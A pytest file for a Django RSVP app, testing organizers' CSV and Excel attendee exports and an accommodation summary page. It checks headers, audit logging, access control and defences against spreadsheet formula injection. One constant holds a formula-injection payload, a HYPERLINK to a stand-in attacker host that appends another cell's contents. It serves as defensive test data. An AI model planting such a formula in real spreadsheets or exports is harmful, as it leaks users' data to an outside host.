"""Attendee lists for organizers (CSV and Excel) and the printable accommodation summary:
exactly the right rows, cells that can never run as formulas, and an audit entry each time.
The admin's RSVP export is the same table (tests/admin checks it uses this header)."""

import csv
import datetime
import io
import zipfile
import zoneinfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from events.enums import AuditAction, RsvpStatus
from events.models import AuditEntry

from .. import pages
from ..conftest import close_download
from ..factories import EventFactory, RsvpFactory
from ..staff import VISITORS, excel_file, log_in_as, login_redirect, organizer

pytestmark = pytest.mark.django_db

CHICAGO = zoneinfo.ZoneInfo("America/Chicago")
HEADER = [
    "code",
    "event",
    "name",
    "email",
    "party_size",
    "status",
    "checked_in",
    "language",
    "interpreter_count",
    "interpreter_language",
    "asl_count",
    "captioning_count",
    "childcare_count",
    "mobility_count",
    "note",
    "created_at",
]
# The workbook's header: the same columns, for people.
XLSX_HEADER = [
    "RSVP code",
    "Forum",
    "Name",
    "Email",
    "People",
    "Status",
    "Arrived",
    "Language for emails",
    "People who need an interpreter",
    "Interpreter language",
    "People who need ASL",
    "People who need live captions",
    "Children who need childcare",
    "People who need wheelchair or mobility access",
    "Note",
    "Day of the RSVP",
]
NO_STORE = "no-store, max-age=0, no-cache, must-revalidate, private"
PROBE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def forum():
    event = EventFactory(title="Forum", slug="forum", capacity=20, max_party_size=6)
    RsvpFactory(
        event=event,
        code="AAA111",
        name="Amina Yusuf",
        email="amina@example.org",
        party_size=3,
        checked_in_count=2,
        interpreter_language="Somali",
        interpreter_count=2,
        childcare_count=1,
        note="Stroller",
        created_at=datetime.datetime(2026, 1, 10, 9, 30, tzinfo=CHICAGO),
    )
    RsvpFactory(
        event=event,
        code="BBB222",
        name=PROBE,
        party_size=1,
        status=RsvpStatus.WAITLISTED,
        asl_count=1,
        note="+1 555\x07bell @me -minus",
        created_at=datetime.datetime(2026, 1, 11, 20, 0, tzinfo=CHICAGO),
    )
    RsvpFactory(
        event=event,
        code="CCC333",
        name="Gone",
        status=RsvpStatus.CANCELLED,
        created_at=datetime.datetime(2026, 1, 12, 8, 0, tzinfo=CHICAGO),
    )
    RsvpFactory(event=EventFactory(slug="other"), code="DDD444", name="Elsewhere")
    return event


def audit_log() -> list[tuple[str, int]]:
    return list(AuditEntry.objects.order_by("pk").values_list("action", "record_count"))


def test_csv_lists_the_events_active_rsvps_with_safe_cells(client, forum):
    response = organizer(client).get(reverse("staff:attendees_csv", args=["forum"]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="attendees-forum.csv"'
    assert response["Cache-Control"] == NO_STORE
    body = b"".join(response.streaming_content).decode()
    assert body.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(body[1:]))) == [
        HEADER,
        [
            "AAA111",
            "Forum",
            "Amina Yusuf",
            "amina@example.org",
            "3",
            "confirmed",
            "2",
            "en",
            "2",
            "Somali",
            "0",
            "0",
            "1",
            "0",
            "Stroller",
            "2026-01-10",  # the day only
        ],
        [
            "BBB222",
            "Forum",
            "'" + PROBE,
            "",
            "1",
            "waitlisted",
            "0",
            "en",
            "0",
            "",
            "1",
            "0",
            "0",
            "0",
            "'+1 555\x07bell @me -minus",
            "2026-01-11",
        ],
    ]
    assert audit_log() == [(AuditAction.EXPORT_RSVPS, 2)]


def test_xlsx_holds_the_same_rows_and_never_a_formula(client, forum):
    response = excel_file(organizer(client), reverse("staff:attendees_xlsx", args=["forum"]))

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="attendees-forum.xlsx"'
    assert response["Cache-Control"] == NO_STORE
    workbook = load_workbook(io.BytesIO(response.content))
    (sheet,) = workbook.worksheets
    assert sheet.title == "Attendees"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows == [
        XLSX_HEADER,
        [
            "AAA111",
            "Forum",
            "Amina Yusuf",
            "amina@example.org",
            3,
            "confirmed",
            2,
            "en",
            2,
            "Somali",
            0,
            0,
            1,
            0,
            "Stroller",
            datetime.datetime(2026, 1, 10, 0, 0),  # the day only, a date cell
        ],
        [
            "BBB222",
            "Forum",
            PROBE,
            None,  # an empty cell
            1,
            "waitlisted",
            0,
            "en",
            0,
            None,
            1,
            0,
            0,
            0,
            "+1 555\ufffdbell @me -minus",
            datetime.datetime(2026, 1, 11, 0, 0),
        ],
    ]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert types == {"s", "n", "d"}
    assert [sheet["P2"].number_format, sheet["P3"].number_format] == ["yyyy-mm-dd"] * 2
    # Each column as wide as its longest value or label, and a little room.
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMNOP"]
    assert widths == [11, 7, 48, 19, 8, 12, 9, 21, 32, 22, 21, 31, 29, 47, 24, 17]
    assert sheet.freeze_panes == "A2"
    sheet_xml = (
        zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    )
    assert "<f>" not in sheet_xml
    assert sheet["C3"].data_type == "s"
    assert audit_log() == [(AuditAction.EXPORT_RSVPS, 2)]


def test_accommodation_summary_counts_people_and_lists_who_needs_what(client, forum):
    RsvpFactory(
        event=forum,
        code="EEE555",
        name="Carlos",
        party_size=4,
        interpreter_language="Spanish",
        interpreter_count=3,
        childcare_count=2,
        mobility_count=1,
    )

    response = organizer(client).get(reverse("staff:accommodations", args=["forum"]))

    assert response.status_code == 200
    assert pages.text(response, "needs-table") == (
        "People who need each accommodation, from active RSVPs "
        "Need With a seat On the waitlist "
        "Interpreter 5 0 ASL interpreter 0 1 Live captioning 0 0 Childcare 3 0 "
        "Mobility or wheelchair access 1 0"
    )
    assert pages.text(response, "languages-table") == (
        "People who need an interpreter, by language "
        "Language With a seat On the waitlist Spanish 3 0 Somali 2 0"
    )
    assert pages.text(response, "list-interpreter") == (
        "Interpreter RSVP code Name Language People Status "
        "AAA111 Amina Yusuf Somali 2 Confirmed EEE555 Carlos Spanish 3 Confirmed"
    )
    assert pages.text(response, "list-asl") == (
        f"ASL interpreter RSVP code Name People Status BBB222 {PROBE} 1 On the waitlist"
    )
    assert pages.text(response, "list-childcare") == (
        "Childcare RSVP code Name People Status "
        "AAA111 Amina Yusuf 1 Confirmed EEE555 Carlos 2 Confirmed"
    )
    assert pages.text(response, "list-mobility") == (
        "Mobility or wheelchair access RSVP code Name People Status EEE555 Carlos 1 Confirmed"
    )
    assert not pages.has_element(response, "list-captioning")
    assert '<link rel="stylesheet" href="/static/css/print.css" media="print">' in (
        response.content.decode()
    )
    assert audit_log() == [(AuditAction.VIEW_ATTENDEES, 3)]


def test_accommodation_summary_without_needs_says_so(client):
    EventFactory(slug="quiet")

    response = organizer(client).get(reverse("staff:accommodations", args=["quiet"]))

    assert pages.text(response, "lists") == (
        "Who needs what, for the coordinators Private: for the interpreter and childcare "
        "coordinators only. Do not share or post this list. "
        "Nobody has asked for an accommodation yet."
    )
    assert audit_log() == [(AuditAction.VIEW_ATTENDEES, 0)]


def test_exports_read_a_fixed_number_of_queries(client, forum, django_assert_num_queries):
    for _ in range(40):
        RsvpFactory(event=forum)
    organizer(client).get(reverse("staff:dashboard", args=["forum"]))  # session warmed up

    # session, user, sign-in code device, two permission reads, event, the export's forum,
    # count, audit entry, the rows
    with django_assert_num_queries(10):
        response = client.get(reverse("staff:attendees_csv", args=["forum"]))
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert len(rows) == 1 + 42


@pytest.mark.parametrize(("visitor", "status"), VISITORS.items())
@pytest.mark.parametrize("name", ["attendees_csv", "attendees_xlsx", "accommodations"])
def test_attendee_lists_are_for_organizers_and_superusers(client, forum, visitor, status, name):
    url = reverse(f"staff:{name}", args=["forum"])

    response = log_in_as(client, visitor).get(url)
    close_download(response)

    assert response.status_code == status
    if status == 302:
        assert response["Location"] == login_redirect(url)
    if status != 200:
        assert audit_log() == []


@pytest.mark.parametrize("name", ["attendees_csv", "attendees_xlsx", "accommodations"])
def test_attendee_lists_of_an_unknown_event_are_404(client, name):
    response = organizer(client).get(reverse(f"staff:{name}", args=["nope"]))

    assert response.status_code == 404


@pytest.mark.parametrize("name", ["attendees_csv", "accommodations"])
def test_attendee_lists_cannot_be_posted_to(client, forum, name):
    response = organizer(client).post(reverse(f"staff:{name}", args=["forum"]))

    assert response.status_code == 405
